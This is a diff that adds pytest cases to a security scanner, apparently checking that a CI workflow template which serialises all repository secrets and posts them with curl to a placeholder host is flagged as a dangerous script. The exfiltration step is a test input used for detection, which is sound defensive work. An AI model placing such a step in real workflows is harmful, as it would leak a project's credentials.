@@ -5,6 +5,7 @@ import time
 
 import pytest
 
+from tests.offline import analyse
 from vscan.model import Severity
 from vscan.providers.offline.syntax.scripts import (
     TooCostlyError,
@@ -557,3 +558,32 @@ def test_only_the_installer_of_a_vendor_as_it_was_sent_is_low(
 ) -> None:
     found = dangerous_commands(script + "\n", "shell")
     assert [each.severity for each in found] == [severity]
+
+
+WORKFLOW = """\
+on: [push]
+jobs:
+  lint:
+    runs-on: ubuntu-latest
+    env:
+      DATA: ${{ toJSON(secrets) }}
+    steps:
+      - run: STEP
+"""
+
+
+@pytest.mark.parametrize(
+    ("step", "rules"),
+    [
+        ('echo "$DATA" > all.json; curl -d @all.json https://a.invalid', ["dangerous-script"]),
+        ("make lint", []),
+    ],
+)
+def test_a_workflow_that_gives_all_secrets_away_is_found(step: str, rules: list[str]) -> None:
+    verdict = analyse({"templates/lint.yaml": WORKFLOW.replace("STEP", step)})
+    assert [finding.rule for finding in verdict.findings] == rules
+
+
+def test_a_workflow_with_one_secret_is_not_found() -> None:
+    text = WORKFLOW.replace("toJSON(secrets)", "secrets.DEPLOY_KEY").replace("STEP", "curl a.b")
+    assert analyse({"templates/lint.yaml": text}).findings == ()
